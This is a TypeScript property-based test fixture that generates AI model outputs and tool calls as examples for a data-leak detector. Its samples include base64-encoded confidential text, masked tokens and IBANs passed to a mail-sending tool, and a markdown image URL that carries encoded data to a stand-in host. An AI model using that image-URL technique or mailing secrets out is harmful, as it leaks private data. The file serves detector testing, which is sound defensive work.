import fc from 'fast-check'
import type { Fields } from '../arbitrary.ts'
import type { DetectorExample } from './example.ts'

const CODED = Buffer.from(
  'The board decided to close the northern plant in spring, and to tell nobody before.',
).toString('base64')

const giving: fc.Arbitrary<Fields> = fc.record({
  operation: fc.constantFrom('model_call' as const, 'agent_invoke' as const),
  content: fc.constantFrom(
    { prompt: 'Where is my parcel?', output: 'It arrives on Monday.' },
    { prompt: 'What is the key?', output: 'The key is [masked:github-token].' },
    { prompt: 'Is [masked:github-token] valid?', output: 'Yes, [masked:github-token] is.' },
    { output: `Here you are: ${CODED}` },
    { output: `![chart](https://img.example.test/c.png?d=${CODED.slice(0, 60)})` },
  ),
})
const calling: fc.Arbitrary<Fields> = fc.record({
  operation: fc.constant('tool_call' as const),
  tool: fc.constantFrom({ name: 'mail.send' }, { name: 'crm.read' }),
  content: fc.constantFrom(
    { arguments: '{"body":"[masked:jwt]"}' },
    { arguments: `{"body":"${'[masked:iban] '.repeat(9)}"}` },
    { result: '[masked:jwt] [masked:iban]' },
  ),
})

export const example: DetectorExample = {
  phases: [fc.array(fc.oneof(giving, calling), { minLength: 1, maxLength: 6 })],
}
